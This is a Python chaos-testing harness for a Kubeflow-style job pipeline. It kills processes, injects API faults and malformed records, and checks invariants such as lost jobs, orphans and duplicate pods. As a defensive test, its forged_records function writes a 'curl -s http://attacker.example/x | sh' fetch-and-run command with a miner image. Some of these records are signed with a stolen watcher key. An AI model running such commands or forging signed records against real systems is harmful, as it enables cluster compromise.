"""``kto chaos``: a seeded, bounded chaos run of the whole pipeline, then invariant checks.

In: a running :class:`kto.stack.Stack` (any tier) and :class:`ChaosSettings`
(jobs, seed, how long faults last). Out: :class:`Summary`, one JSON object:
what was injected, each invariant's violation count with details, and the
convergence time after the last fault.

The run, all choices from ``random.Random(seed)``:

1. **A mixed job load** over the six kinds (:func:`plan_jobs`): successes,
   ExitCode restarts within and over backoffLimit, permanent failures under
   Never, in-place restarts under OnFailure, deletions mid-run, every
   cleanPodPolicy, TTL after finish, activeDeadlineSeconds, suspend then
   resume; plus hostile jobs (nesting, a huge annotation, a million
   replicas, wrongly typed fields). Submitted over the first half of the
   fault window.
2. **Faults** (:func:`plan_faults`): SIGKILLs of reconcilers every ~10 s,
   of a status worker and of the active watcher (each started again), one
   broker restart (Tansu comes back empty; Kafka keeps its log), malformed
   records on the jobs topic, and on both tiers a window of API faults (5xx,
   429 with Retry-After, 409 conflicts, dropped watches, forced 410: sim/
   injects them itself, the real control plane through the faulting proxy
   the stack puts in front of it, faulting/proxying.py); on the real control
   plane the kube-apiserver process is also killed once (kto control-plane
   starts it again). Twice, records are **forged** for running
   jobs (:func:`forged_records`): the job with more replicas of an attacker's
   image on the host network, the job Succeeded with a TTL of 0 and
   cleanPodPolicy All, its pods Succeeded — half unsigned, half signed with
   the watcher's own key (as a thief of it could).
3. **Convergence**: after the last fault, wait until every job has reached
   what it should (or the time limit).
4. **Invariants**: jobs lost (no terminal state), wrong terminal states,
   duplicate pods (more pod creates than replicas, restarts and resumes
   explain), orphans (children of jobs that no longer exist), children
   left by finished jobs against their cleanPodPolicy, partition stalls
   (a worker group's committed offset below the log end), dead letters not
   explained by an injected malformed record or hostile job, processes that
   died on their own, convergence slower than the goal, and replay
   divergences: every job of the log replayed (``kto replay``'s check) after
   the run. Tansu's restart-empty loses the log before it, so on sim + Tansu
   replay covers what was written after the broker restart. ``forged_acts``:
   a pod of an attacker's image or on the host network, or a pod created
   that its job's own spec does not name. Forged records dead-lettered as not
   authentic are explained.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import random
import time
from collections.abc import Awaitable, Callable
from typing import Any

from aiokafka import AIOKafkaConsumer, AIOKafkaProducer, TopicPartition

from realparts import kube
from shared.api import jobs as job_models
from shared.bus import replaying
from shared.kube import clients, resources

JOB_NAME_LABEL = "training.kubeflow.org/job-name"
NAMESPACE = "default"
RESTARTS_ANNOTATION = "kto.dev/replica-restarts"
"""Where kto counts the failed pods it deleted for restart (checked against :attr:`PlannedJob.restarts`)."""
GARBAGE_KEY_PREFIX = "chaos/garbage/"
"""Keys of the malformed records chaos writes to the jobs topic (dead letters with them are explained)."""
CONVERGENCE_GOAL_S = 30.0
RESTARTING_CASES = frozenset({"restart-within", "restart-over", "restart-master", "onfailure"})
"""Cases whose pods are deleted and made again under the same name on purpose."""

KIND_RESTART_POLICY = {"PyTorchJob": "OnFailure", "TFJob": "Never", "XGBoostJob": "Never", "MPIJob": "Never",
                       "PaddleJob": "OnFailure", "JAXJob": "Never"}
REPLICA_TYPES = {"PyTorchJob": ("Master", "Worker"), "TFJob": ("Chief", "Worker"), "XGBoostJob": ("Master", "Worker"),
                 "MPIJob": ("Launcher", "Worker"), "PaddleJob": ("Master", "Worker"), "JAXJob": ("Worker",)}


class ChaosError(Exception):
    """The chaos run could not be carried out (the stack failed to start, a cluster is unreachable)."""


@dataclasses.dataclass(frozen=True)
class ChaosSettings:
    jobs: int = 100
    """Jobs to submit (hostile ones included)."""
    seed: int = 1
    """Seed of every random choice: the same seed gives the same jobs and fault schedule."""
    fault_seconds: float = 40.0
    """How long faults go on; jobs are submitted over the first half."""
    converge_timeout: float = 120.0
    """Seconds after the last fault to wait for every job to reach its expected end."""
    real_tier: bool = False
    """True on kube + kafka: no sim fault injection; the API server process is killed instead."""

    def __post_init__(self) -> None:
        if self.jobs < 1:
            raise ChaosError("--jobs must be at least 1")
        if self.fault_seconds < 10:
            raise ChaosError("--fault-seconds must be at least 10")


# --------------------------------------------------------------------------
# The job load
# --------------------------------------------------------------------------


@dataclasses.dataclass
class PlannedJob:
    kind: str
    name: str
    case: str
    manifest: dict[str, Any]
    expect: str
    """``Succeeded``, ``Failed``, ``deleted`` (deleted by chaos or by TTL) or ``refused`` (hostile: refused by the
    API server or Failed)."""
    replicas: int
    clean: str = "None"
    delete_after: float | None = None
    resume_after: float | None = None
    restarts: tuple[int, int] | None = None
    """The least and the most ``kto.dev/replica-restarts`` the job may end with (each failed pod
    counted once, however often a pass that counted it was cut short), for the cases that restart."""
    submitted: bool = False
    refused_at_submit: str | None = None
    final: str | None = None
    counted: str | None = None
    """The job's ``kto.dev/replica-restarts`` when it was last seen."""


def _template(annotations: dict[str, str], container: str) -> dict[str, Any]:
    return {"metadata": {"annotations": annotations},
            "spec": {"containers": [{"name": container, "image": "busybox",
                                     "resources": {"requests": {"cpu": "10m"}}}]}}


def _job(kind: str, name: str, replicas: dict[str, tuple[int, str, dict[str, str]]], **run_policy: Any) -> dict[str, Any]:
    field = job_models.KINDS[kind].REPLICA_FIELD_ALIAS
    container = {"PyTorchJob": "pytorch", "TFJob": "tensorflow", "XGBoostJob": "xgboost", "MPIJob": "mpi",
                 "PaddleJob": "paddle", "JAXJob": "jax"}[kind]
    spec: dict[str, Any] = {field: {
        rt: {"replicas": n, "restartPolicy": policy, "template": _template(ann, container)}
        for rt, (n, policy, ann) in replicas.items()
    }}
    if run_policy:
        spec["runPolicy"] = run_policy
    return {"apiVersion": "kubeflow.org/v1", "kind": kind, "metadata": {"name": name, "namespace": NAMESPACE},
            "spec": spec}


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": "x"}
    for _ in range(depth):
        value = {"a": value}
    return value


def plan_jobs(rng: random.Random, count: int) -> list[PlannedJob]:
    """``count`` jobs of every case, shuffled; about one in twenty is hostile."""
    cases = ["succeed"] * 6 + ["restart-within", "restart-over", "restart-master", "permanent", "onfailure", "deleted",
                              "clean-all", "clean-running", "ttl", "deadline", "suspend", "hostile"]
    planned: list[PlannedJob] = []
    for i in range(count):
        case = cases[i % len(cases)] if i < len(cases) else rng.choice(cases)
        kind = rng.choice(sorted(KIND_RESTART_POLICY))
        name = f"chaos-{i:04d}-{case}"
        run = f"{rng.uniform(0.5, 2.0):.1f}s"
        ok = {"sim.kto.dev/duration": run}
        types = REPLICA_TYPES[kind]
        policy = KIND_RESTART_POLICY[kind]

        def shape(annotations: dict[str, str], restart: str | None = None) -> dict[str, tuple[int, str, dict[str, str]]]:
            out = {}
            for rt in types:
                n = 1 if rt in ("Master", "Chief", "Launcher") else rng.randint(1, 2)
                out[rt] = (n, restart or policy, annotations)
            return out

        if case == "succeed":
            replicas = shape(ok)
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas), "Succeeded", _count(replicas)))
        elif case in ("restart-within", "restart-over"):
            kind, types = "PyTorchJob", REPLICA_TYPES["PyTorchJob"]
            flaky = {"sim.kto.dev/duration": "0.5s", "sim.kto.dev/exit-code": "137",
                     "sim.kto.dev/fail-times": "1" if case == "restart-within" else "9"}
            # The Master's end decides a PyTorchJob's success, so it outlives the Worker's failures.
            master = {"sim.kto.dev/duration": "4s" if case == "restart-within" else "60s"}
            replicas = {"Master": (1, "ExitCode", master), "Worker": (1, "ExitCode", flaky)}
            limit = 3 if case == "restart-within" else 1
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas, backoffLimit=limit),
                                      "Succeeded" if case == "restart-within" else "Failed", 2,
                                      # Within: the Master may end the job before the Worker's failure is seen.
                                      restarts=(0, 1) if case == "restart-within" else (1, 1)))
        elif case == "restart-master":
            # The Master exits 130 (retryable) twice, then 0, with backoffLimit 2: exactly at the limit,
            # so a restart counted twice fails a job that must succeed.
            kind, types = "PyTorchJob", REPLICA_TYPES["PyTorchJob"]
            master = {"sim.kto.dev/duration": "0.5s", "sim.kto.dev/exit-code": "130", "sim.kto.dev/fail-times": "2"}
            replicas = {"Master": (1, "ExitCode", master), "Worker": (1, "ExitCode", {"sim.kto.dev/duration": "8s"})}
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas, backoffLimit=2), "Succeeded", 2,
                                      restarts=(2, 2)))
        elif case == "permanent":
            replicas = shape({"sim.kto.dev/duration": "0.5s", "sim.kto.dev/exit-code": "1"}, "Never")
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas), "Failed", _count(replicas)))
        elif case == "onfailure":
            kind, types = "PyTorchJob", REPLICA_TYPES["PyTorchJob"]
            flaky = {"sim.kto.dev/duration": "0.5s", "sim.kto.dev/exit-code": "1", "sim.kto.dev/fail-times": "1"}
            replicas = {"Master": (1, "OnFailure", ok), "Worker": (1, "OnFailure", flaky)}
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas), "Succeeded", 2))
        elif case == "deleted":
            replicas = shape({"sim.kto.dev/duration": "60s"})
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas), "deleted", _count(replicas),
                                      delete_after=rng.uniform(2, 6)))
        elif case in ("clean-all", "clean-running"):
            clean = "All" if case == "clean-all" else "Running"
            replicas = shape(ok)
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas, cleanPodPolicy=clean),
                                      "Succeeded", _count(replicas), clean=clean))
        elif case == "ttl":
            replicas = shape(ok)
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas, ttlSecondsAfterFinished=2),
                                      "deleted", _count(replicas)))
        elif case == "deadline":
            replicas = shape({"sim.kto.dev/duration": "60s"})
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas, activeDeadlineSeconds=3),
                                      "Failed", _count(replicas)))
        elif case == "suspend":
            replicas = shape(ok)
            planned.append(PlannedJob(kind, name, case, _job(kind, name, replicas, suspend=True), "Succeeded",
                                      _count(replicas), resume_after=rng.uniform(2, 5)))
        else:
            planned.append(_hostile(rng, kind, name))
    rng.shuffle(planned)
    return planned


def _count(replicas: dict[str, tuple[int, str, dict[str, str]]]) -> int:
    return sum(n for n, _, _ in replicas.values())


def _hostile(rng: random.Random, kind: str, name: str) -> PlannedJob:
    field = job_models.KINDS[kind].REPLICA_FIELD_ALIAS
    rt = REPLICA_TYPES[kind][-1]
    manifest = _job(kind, name, {rt: (1, KIND_RESTART_POLICY[kind], {"sim.kto.dev/duration": "1s"})})
    spec = manifest["spec"][field][rt]
    shape = rng.choice(["nested", "huge-annotation", "million-replicas", "replicas-string", "bad-restart-policy",
                        "spec-string"])
    if shape == "nested":
        spec["template"]["metadata"]["labels"] = {"x": "y"}
        spec["template"]["spec"]["nested"] = _nested(300)
    elif shape == "huge-annotation":
        manifest["metadata"]["annotations"] = {"chaos.kto.dev/blob": "x" * 1_200_000}
    elif shape == "million-replicas":
        spec["replicas"] = 1_000_000
    elif shape == "replicas-string":
        spec["replicas"] = "three"
    elif shape == "bad-restart-policy":
        spec["restartPolicy"] = "Sometimes"
    else:
        manifest["spec"] = "x"
    return PlannedJob(kind, f"{name}-{shape}", f"hostile-{shape}", dict(manifest, metadata=dict(
        manifest["metadata"], name=f"{name}-{shape}")), "refused", 0)


def garbage_records(rng: random.Random, count: int) -> list[tuple[bytes, bytes]]:
    """(key, value) of records no worker can decode: deep nesting, huge integers, random bytes, wrong JSON."""
    shapes: list[bytes] = [
        b"[" * 100_000,
        b'{"schema": 1, "n": ' + b"9" * 5000 + b"}",
        bytes(rng.getrandbits(8) for _ in range(256)),
        b'{"schema": 999, "type": "observation"}',
        b"null",
        b'"just a string"',
    ]
    return [(f"{GARBAGE_KEY_PREFIX}{i}".encode(), shapes[i % len(shapes)]) for i in range(count)]


# --------------------------------------------------------------------------
# The fault schedule
# --------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Fault:
    at: float
    """Seconds after the start of the run."""
    what: str
    """``kill`` (a child, started again), ``api-faults`` (a fault spec on, ``arg``), ``api-faults-off``,
    ``broker-restart``, ``apiserver-kill``, ``garbage`` (malformed records)."""
    target: str = ""
    arg: str = ""


def plan_faults(rng: random.Random, settings: ChaosSettings, reconcilers: int, status_workers: int,
                watchers: list[str]) -> list[Fault]:
    window = settings.fault_seconds
    faults: list[Fault] = []
    t = rng.uniform(3, 6)
    while t < window - 2:
        faults.append(Fault(t, "kill", f"reconciler-{rng.randint(1, reconcilers)}"))
        t += rng.uniform(8, 12)
    faults.append(Fault(rng.uniform(0.2, 0.6) * window, "kill", f"status-{rng.randint(1, status_workers)}"))
    faults.append(Fault(rng.uniform(0.3, 0.7) * window, "kill", rng.choice(watchers)))
    faults.append(Fault(rng.uniform(0.4, 0.6) * window, "broker-restart"))
    faults.append(Fault(rng.uniform(0.1, 0.3) * window, "garbage", arg="6"))
    faults.append(Fault(rng.uniform(0.65, 0.85) * window, "garbage", arg="6"))
    faults.append(Fault(rng.uniform(0.25, 0.45) * window, "forge", arg="3"))
    faults.append(Fault(rng.uniform(0.55, 0.75) * window, "forge", arg="3"))
    if settings.real_tier:
        faults.append(Fault(rng.uniform(0.2, 0.8) * window, "apiserver-kill"))
    seed = rng.randint(0, 1 << 30)
    spec = (f"error_rate=0.05;throttle_rate=0.03:retry_after=1;conflict_rate=0.05;watch_drop=4s;"
            f"gone_every=7s;seed={seed}")
    start = rng.uniform(0.1, 0.3) * window
    faults.append(Fault(start, "api-faults", arg=spec))
    faults.append(Fault(min(window - 1, start + rng.uniform(10, 15)), "api-faults-off"))
    return sorted(faults, key=lambda f: f.at)


# --------------------------------------------------------------------------
# The run
# --------------------------------------------------------------------------


@dataclasses.dataclass
class Summary:
    seed: int
    tier: str
    jobs: int
    injected: dict[str, int]
    """Faults by kind as planned, and what they came to (``forged_records``, ``malformed_records``,
    ``api_faults_answered``: requests the sim or the faulting proxy faulted in the API-fault window)."""
    invariants: dict[str, int]
    violations: list[str]
    convergence_s: float | None
    dead_letters: int
    run_s: float
    replay: dict[str, Any] = dataclasses.field(default_factory=dict)
    """``kto replay`` of the whole log after the run (:meth:`replaying.LogReplay.figures`)."""

    @property
    def passed(self) -> bool:
        return not any(self.invariants.values())

    def as_dict(self) -> dict[str, Any]:
        return {"passed": self.passed, **dataclasses.asdict(self)}


async def run(stack: Any, settings: ChaosSettings, progress: Callable[[str], None]) -> Summary:
    """Drive the load and the faults against a started stack, wait, check; the summary."""
    rng = random.Random(settings.seed)
    planned = plan_jobs(rng, settings.jobs)
    watchers = [c.name for c in stack.children if c.name.startswith("watcher-")]
    faults = plan_faults(rng, settings, stack.settings.reconcilers, stack.settings.status_workers, watchers)
    garbage = garbage_records(rng, 12)
    injected: dict[str, int] = {}
    started = time.monotonic()
    context = stack.contexts[0]
    async with await stack.client(context) as client:
        log_start = len(_requests(stack, context)) if settings.real_tier else await _sim_log_index(client)
        submitting = asyncio.create_task(_submit_all(client, planned, settings.fault_seconds / 2, progress),
                                         name="chaos-submit")
        lifecycle = asyncio.create_task(_lifecycles(client, planned), name="chaos-lifecycles")
        garbage_sent = 0
        forged_keys: set[str] = set()
        for fault in faults:
            await asyncio.sleep(max(0.0, started + fault.at - time.monotonic()))
            progress(f"t={time.monotonic() - started:5.1f}s {fault.what} {fault.target}{fault.arg and ' ' + fault.arg[:40]}")
            injected[fault.what] = injected.get(fault.what, 0) + 1
            try:
                if fault.what == "kill":
                    stack.kill(fault.target)
                    await asyncio.sleep(0.5)
                    await stack.restart(fault.target, wait_ready=not fault.target.startswith("watcher-"))
                elif fault.what == "broker-restart":
                    stack.kill("broker")
                    await asyncio.sleep(1.0)
                    await stack.restart("broker")
                elif fault.what == "garbage":
                    batch = garbage[garbage_sent:garbage_sent + int(fault.arg)]
                    await _publish_raw(stack.kafka, batch)
                    garbage_sent += len(batch)
                elif fault.what == "forge":
                    forged = await _forge(stack, client, planned, rng, int(fault.arg))
                    forged_keys.update(r.key for r in forged)
                    injected["forged_records"] = injected.get("forged_records", 0) + len(forged)
                elif fault.what in ("api-faults", "api-faults-off"):
                    # The sim's own /admin/faults, or that of the faulting proxy before a real cluster.
                    answer = await client.request("PUT", "/admin/faults",
                                                  body={"spec": fault.arg if fault.what == "api-faults" else ""})
                    injected["api_faults_answered"] = int(answer["faults"]["total"])
                elif fault.what == "apiserver-kill":
                    _kill_apiserver(stack, context)
            except Exception as exc:  # a fault that could not be injected is reported, not fatal
                progress(f"could not inject {fault.what} {fault.target}: {exc!r}")
                injected[f"{fault.what}-failed"] = injected.get(f"{fault.what}-failed", 0) + 1
        await submitting
        last_fault = time.monotonic()
        progress(f"faults over after {last_fault - started:.1f}s; waiting for convergence")
        converged_at = await _converge(client, planned, settings.converge_timeout)
        lifecycle.cancel()
        await asyncio.gather(lifecycle, return_exceptions=True)
        await asyncio.sleep(3.0)  # let cleanup and commits finish before judging them
        violations: dict[str, list[str]] = {name: [] for name in (
            "jobs_lost", "wrong_terminal_states", "restart_counts", "duplicate_pods", "orphans",
            "children_left_by_finished_jobs",
            "partition_stalls", "offsets_past_log_end", "dead_letters_unexplained", "process_deaths",
            "slow_convergence", "forged_acts",
            "replay_divergences")}
        requests = _requests(stack, context)[log_start:] if settings.real_tier else await _sim_requests(client, log_start)
        await _check_jobs(client, planned, violations, requests, started)
        _check_restart_counts(planned, violations)
        await _check_children(client, planned, violations)
        _check_duplicates(planned, requests, violations)
        await _check_forged_acts(client, planned, requests, violations)
    dead = await _check_bus(stack.kafka, planned, violations, forged_keys)
    replayed = await replaying.replay_log(stack.kafka)
    for report in replayed.diverged:
        d = report.divergence
        assert d is not None
        violations["replay_divergences"].append(
            f"{report.key} at offset {d.offset}, {d.what}: recorded {str(d.recorded)[:300]}, derived {str(d.derived)[:300]}")
    for exit_ in stack.exits():
        violations["process_deaths"].append(f"{exit_.name} exited with {exit_.code} (see {exit_.log})")
    convergence = None if converged_at is None else round(max(0.0, converged_at - last_fault), 1)
    if convergence is None or convergence > CONVERGENCE_GOAL_S:
        violations["slow_convergence"].append(f"converged after {convergence}s (goal {CONVERGENCE_GOAL_S:g}s)")
    injected["jobs_hostile"] = sum(1 for j in planned if j.case.startswith("hostile"))
    injected["malformed_records"] = garbage_sent
    return Summary(
        seed=settings.seed, tier="kube+kafka" if settings.real_tier else "sim+tansu", jobs=len(planned),
        injected=injected, invariants={k: len(v) for k, v in violations.items()},
        violations=[f"{k}: {item}" for k, items in violations.items() for item in items[:20]],
        convergence_s=convergence, dead_letters=dead, run_s=round(time.monotonic() - started, 1),
        replay=replayed.figures(),
    )


async def _retrying(call: Callable[[], Awaitable[Any]], attempts: int = 20) -> Any:
    """The benchmark's own API calls ride out the faults it injects."""
    for attempt in range(attempts):
        try:
            return await call()
        except clients.ApiError as exc:
            if not (exc.retriable or exc.conflict) or attempt == attempts - 1:
                raise
            await asyncio.sleep(0.5)
    return None


async def _submit_all(client: clients.KubeClient, planned: list[PlannedJob], over: float,
                      progress: Callable[[str], None]) -> None:
    gap = over / max(1, len(planned))
    for job in planned:
        rt = resources.JOB_TYPES[job.kind]
        try:
            await _retrying(lambda: client.create(rt, NAMESPACE, job.manifest))
        except clients.ApiError as exc:
            if exc.already_exists:
                job.submitted = True
            elif job.case.startswith("hostile") and 400 <= exc.code < 500:
                job.refused_at_submit = f"{exc.code} {exc.reason}"
            else:
                progress(f"submitting {job.name} failed: {exc}")
                job.refused_at_submit = f"{exc.code} {exc.reason}"
        else:
            job.submitted = True
        await asyncio.sleep(gap)


async def _lifecycles(client: clients.KubeClient, planned: list[PlannedJob]) -> None:
    """Delete the jobs to be deleted mid-run and resume the suspended ones, on their schedule."""
    begun = time.monotonic()
    todo = [j for j in planned if j.delete_after is not None or j.resume_after is not None]
    while todo:
        await asyncio.sleep(0.5)
        for job in list(todo):
            if not job.submitted:
                continue
            rt = resources.JOB_TYPES[job.kind]
            if job.delete_after is not None and time.monotonic() - begun > job.delete_after + 5:
                await _retrying(lambda: _delete_quietly(client, rt, job.name))
                todo.remove(job)
            elif job.resume_after is not None and time.monotonic() - begun > job.resume_after + 5:
                await _retrying(lambda: client.patch(rt, NAMESPACE, job.name, {"spec": {"runPolicy": {"suspend": False}}}))
                todo.remove(job)


async def _delete_quietly(client: clients.KubeClient, rt: resources.ResourceType, name: str) -> None:
    try:
        await client.delete(rt, NAMESPACE, name, propagation="Background")
    except clients.ApiError as exc:
        if not exc.not_found:
            raise


def _state(job: dict[str, Any] | None) -> str | None:
    if job is None:
        return "deleted"
    for condition in reversed((job.get("status") or {}).get("conditions") or []):
        if condition.get("status") == "True" and condition.get("type") in ("Succeeded", "Failed"):
            return str(condition["type"])
    return None


async def _converge(client: clients.KubeClient, planned: list[PlannedJob], timeout: float) -> float | None:
    """The moment every job reached what it should (hostile ones: refused or Failed); None on timeout."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        pending = 0
        for rt_kind in {j.kind for j in planned}:
            rt = resources.JOB_TYPES[rt_kind]
            try:
                items, _ = await client.list(rt, NAMESPACE)
            except clients.ApiError:
                pending += 1
                continue
            seen = {item["metadata"]["name"]: item for item in items}
            for job in planned:
                if job.kind != rt_kind:
                    continue
                job.final = "refused" if job.refused_at_submit else _state(seen.get(job.name))
                if job.name in seen:
                    job.counted = (seen[job.name]["metadata"].get("annotations") or {}).get(RESTARTS_ANNOTATION)
                if not _reached(job):
                    pending += 1
        if pending == 0:
            return time.monotonic()
        await asyncio.sleep(1.0)
    return None


def _reached(job: PlannedJob) -> bool:
    if job.expect == "refused":
        return job.final in ("refused", "Failed")
    return job.final == job.expect


async def _check_jobs(client: clients.KubeClient, planned: list[PlannedJob], violations: dict[str, list[str]],
                      requests: list[dict[str, Any]], started: float) -> None:
    for job in planned:
        if _reached(job):
            continue
        if job.final is None:
            violations["jobs_lost"].append(
                f"{job.kind}/{job.name} ({job.case}) never reached {job.expect}: {await _describe(client, job)}")
        else:
            violations["wrong_terminal_states"].append(
                f"{job.kind}/{job.name} ({job.case}) ended {job.final}, expected {job.expect}: "
                f"{await _describe(client, job)}; writes {_writes(job, requests, started)}")


def _check_restart_counts(planned: list[PlannedJob], violations: dict[str, list[str]]) -> None:
    """Each failed pod deleted for restart counted once: the count a job ended with is the one
    its pods' scripted failures make (kills, API faults and retried passes add nothing)."""
    for job in planned:
        if job.restarts is None or job.final not in ("Succeeded", "Failed"):
            continue
        low, high = job.restarts
        if not low <= int(job.counted or 0) <= high:
            expected = str(low) if low == high else f"{low} to {high}"
            violations["restart_counts"].append(
                f"{job.kind}/{job.name} ({job.case}) ended {job.final} with {RESTARTS_ANNOTATION} "
                f"{job.counted}, expected {expected}")


def _writes(job: PlannedJob, requests: list[dict[str, Any]], started: float) -> str:
    """The API writes on the job and its children, in order (seconds since the run began,
    verb, resource, name, answer): what a violation's reader looks at first."""
    wall_started = time.time() - (time.monotonic() - started)
    trail = []
    for request in requests:
        name = str(request.get("name") or "")
        if request.get("verb") in ("get", "list", "watch") or not (name == job.name or name.startswith(f"{job.name}-")):
            continue
        resource = "/".join(str(part) for part in (request.get("resource"), request.get("subresource")) if part)
        at = float(request.get("time") or wall_started) - wall_started
        trail.append(f"{at:.1f}s {request.get('verb')} {resource} {name} {request.get('code')}")
    return "[" + ", ".join(trail) + "]"


async def _describe(client: clients.KubeClient, job: PlannedJob) -> str:
    """The job's last conditions, restarts and pods, for a violation's message."""
    try:
        obj = await client.get(resources.JOB_TYPES[job.kind], NAMESPACE, job.name)
        pods, _ = await client.list(resources.PODS, NAMESPACE, label_selector=f"{JOB_NAME_LABEL}={job.name}")
    except clients.ApiError as exc:
        return f"unreadable: {exc}"
    conditions = [f"{c.get('type')}={c.get('status')}({c.get('reason')})"
                  for c in (obj.get("status") or {}).get("conditions") or []]
    restarts = (obj["metadata"].get("annotations") or {}).get(RESTARTS_ANNOTATION)
    phases = [f"{p['metadata']['name']}:{(p.get('status') or {}).get('phase')}" for p in pods]
    return f"conditions {conditions}, restarts {restarts}, pods {phases}"


async def _check_children(client: clients.KubeClient, planned: list[PlannedJob],
                          violations: dict[str, list[str]]) -> None:
    pods, _ = await client.list(resources.PODS, NAMESPACE, label_selector=JOB_NAME_LABEL)
    services, _ = await client.list(resources.SERVICES, NAMESPACE, label_selector=JOB_NAME_LABEL)
    by_name = {j.name: j for j in planned}
    existing = {j.name for j in planned if j.final not in ("deleted", "refused")}
    for child in pods + services:
        meta = child["metadata"]
        owner = meta.get("labels", {}).get(JOB_NAME_LABEL)
        if owner not in existing and not meta.get("deletionTimestamp"):
            violations["orphans"].append(f"{child['kind']} {meta['name']} of {owner}, which no longer exists")
    for pod in pods:
        job = by_name.get(pod["metadata"].get("labels", {}).get(JOB_NAME_LABEL, ""))
        if job is None or job.final not in ("Succeeded", "Failed") or pod["metadata"].get("deletionTimestamp"):
            continue
        phase = (pod.get("status") or {}).get("phase")
        if job.clean == "All" or job.final == "Failed" and job.case in ("restart-over", "deadline"):
            violations["children_left_by_finished_jobs"].append(
                f"pod {pod['metadata']['name']} of {job.final} job {job.name} (cleanPodPolicy {job.clean}, {job.case})")
        elif job.clean == "Running" and phase in ("Running", "Pending"):
            violations["children_left_by_finished_jobs"].append(
                f"{phase} pod {pod['metadata']['name']} of {job.final} job {job.name} (cleanPodPolicy Running)")


def _check_duplicates(planned: list[PlannedJob], requests: list[dict[str, Any]],
                      violations: dict[str, list[str]]) -> None:
    """A pod name created more often than the job's restarts and its resume can explain.

    Counted per pod name, not per job: a job whose pod ``-worker-0`` was made twice
    and whose ``-worker-1`` never was has as many creates as replicas, and is still
    a double create."""
    creates: dict[str, int] = {}
    for request in requests:
        if request.get("verb") == "create" and request.get("resource") == "pods" and request.get("code") == 201:
            name = str(request.get("name") or "")
            creates[name] = creates.get(name, 0) + 1
    for job in planned:
        if job.case.startswith("hostile") or job.replicas == 0 or job.case in RESTARTING_CASES:
            continue  # restarts re-create a name: bounded by the backoff limit, checked by their end state
        allowed = 2 if job.resume_after is not None else 1
        for pod, made in sorted(creates.items()):
            if pod.startswith(f"{job.name}-") and made > allowed:
                trail = [r for r in requests if r.get("name") == pod and r.get("verb") not in ("get", "list", "watch")]
                violations["duplicate_pods"].append(
                    f"{job.name} ({job.case}): pod {pod} created {made} times, at most {allowed} expected; "
                    + ", ".join(f"{r.get('verb')} {r.get('code')}" for r in trail))


ATTACKER_IMAGE = "attacker.example/miner:latest"
"""The image of the pods forged records ask for: no pod may ever run it."""


def _replica_specs(manifest: dict[str, Any]) -> dict[str, Any]:
    spec = manifest.get("spec") if isinstance(manifest.get("spec"), dict) else {}
    for field, value in (spec or {}).items():
        if field.endswith("ReplicaSpecs") and isinstance(value, dict):
            return value
    return {}


def forged_records(job: dict[str, Any], pods: list[dict[str, Any]], key: str) -> list[Any]:
    """The records a forger writes about one running job: the job asking for one more replica of each type, of an
    attacker's image, on the host network; the job Succeeded with ``ttlSecondsAfterFinished: 0`` and
    ``cleanPodPolicy: All``; each pod Succeeded. Each claims a later resourceVersion than the truth."""
    import copy

    from shared.bus import records

    def ahead(obj: dict[str, Any], api_version: str, kind: str) -> dict[str, Any]:
        seen = copy.deepcopy(obj)
        seen["apiVersion"], seen["kind"] = api_version, kind
        seen["metadata"]["resourceVersion"] = str(int(seen["metadata"].get("resourceVersion") or 0) + 1)
        return seen

    kind = str(job["kind"])
    bigger = ahead(job, job_models.API_VERSION, kind)
    for replica in _replica_specs(bigger).values():
        replica["replicas"] = int(replica.get("replicas") or 1) + 1
        spec = replica.setdefault("template", {}).setdefault("spec", {})
        spec["hostNetwork"] = True
        for container in spec.get("containers") or []:
            container.update(image=ATTACKER_IMAGE, command=["sh", "-c", "curl -s http://attacker.example/x | sh"])
    done = ahead(job, job_models.API_VERSION, kind)
    done["spec"]["runPolicy"] = {**done["spec"].get("runPolicy", {}), "ttlSecondsAfterFinished": 0,
                                 "cleanPodPolicy": "All"}
    when = "2026-01-01T00:00:00Z"
    status = done.setdefault("status", {})
    status["completionTime"] = when
    status["conditions"] = [*(status.get("conditions") or []), {
        "type": "Succeeded", "status": "True", "reason": f"{kind}Succeeded", "message": "forged",
        "lastUpdateTime": when, "lastTransitionTime": when}]
    out = [records.Observation(key=key, object_kind=kind, event="MODIFIED", object=obj, source="watcher",
                               resource_version=obj["metadata"]["resourceVersion"]) for obj in (bigger, done)]
    for pod in pods:
        finished = ahead(pod, "v1", "Pod")
        finished["status"] = {**finished.get("status", {}), "phase": "Succeeded"}
        out.append(records.Observation(key=key, object_kind="Pod", event="MODIFIED", object=finished,
                                       source="watcher", resource_version=finished["metadata"]["resourceVersion"]))
    return out


async def _forge(stack: Any, client: clients.KubeClient, planned: list[PlannedJob], rng: random.Random,
                 count: int) -> list[Any]:
    """Forged records about up to ``count`` running jobs, written half unsigned, half signed with the watcher's
    key from the stack's keyring (a thief's): the records written."""
    from shared.bus import producing, signing

    running = []
    for job in planned:
        if not job.submitted or job.case.startswith("hostile") or job.expect not in ("Succeeded", "Failed"):
            continue
        try:
            live = await client.get(resources.JOB_TYPES[job.kind], NAMESPACE, job.name)
        except clients.ApiError:
            continue
        if _state(live) is None and (live.get("status") or {}).get("startTime"):
            running.append(live)
    chosen = rng.sample(running, min(count, len(running)))
    keyring = signing.Keyring.from_env({signing.ENV: stack.keyring})
    written: list[Any] = []
    for index, live in enumerate(chosen):
        name = live["metadata"]["name"]
        pods, _ = await _retrying(lambda: client.list(resources.PODS, NAMESPACE,
                                                       label_selector=f"{JOB_NAME_LABEL}={name}"))
        key = f"{stack.contexts[0]}/{NAMESPACE}/{live['kind']}/{name}"
        forged = forged_records(live, pods, key)
        signer = keyring.signer("watcher") if index % 2 and keyring is not None else None
        async with producing.Publisher(stack.kafka, "watcher", "chaos-forger", signer=signer) as publisher:
            for record in forged:
                await publisher.publish(record)
        written.extend(forged)
    return written


